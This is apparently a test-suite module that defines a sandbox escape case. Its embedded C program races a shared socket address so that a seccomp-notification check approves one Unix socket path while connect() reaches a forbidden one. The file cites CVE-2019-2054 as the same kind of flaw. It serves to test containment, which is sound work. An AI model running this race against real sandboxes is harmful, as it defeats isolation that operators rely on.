import { type Attack, arrived, c, hostNetwork } from '../attack.js'

export const attack: Attack = {
  id: 'races/flipped-address',
  tries: 'to change the address of a connection, ten thousand times, between the look at it and its use',
  source: 'peers 4.1: seccomp notifications and the pointers of calls; CVE-2019-2054 is of the kind',
  program: c`
static union { struct sockaddr_un address; char bytes[sizeof(struct sockaddr_un)]; } shared;
static struct sockaddr_un allowed, other;
static volatile int done;

static void *flip(void *nothing) {
  while (!done) {
    memcpy(&shared, &other, sizeof other);
    memcpy(&shared, &allowed, sizeof allowed);
  }
  return nothing;
}

int main(void) {
  allowed = socket_path(path("BAIT", "/allowed.sock"));
  other = socket_path(path("BAIT", "/stream.sock"));
  memcpy(&shared, &allowed, sizeof allowed);
  pthread_t thread;
  pthread_create(&thread, NULL, flip, NULL);
  for (int i = 0; i < 10000; i++) {
    const int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (s < 0) break;
    struct sockaddr_un peer = {0};
    socklen_t length = sizeof peer;
    /* Only what is said to the other one counts. */
    if (connect(s, &shared.address, sizeof shared.address) == 0 && getpeername(s, (void *)&peer, &length) == 0 &&
        strcmp(peer.sun_path, other.sun_path) == 0) {
      leave_nonce(s);
      break;
    }
    close(s);
  }
  done = 1;
  pthread_join(thread, NULL);
}`,
  succeeded: arrived,
  control: 'plain',
  exempt: hostNetwork,
}
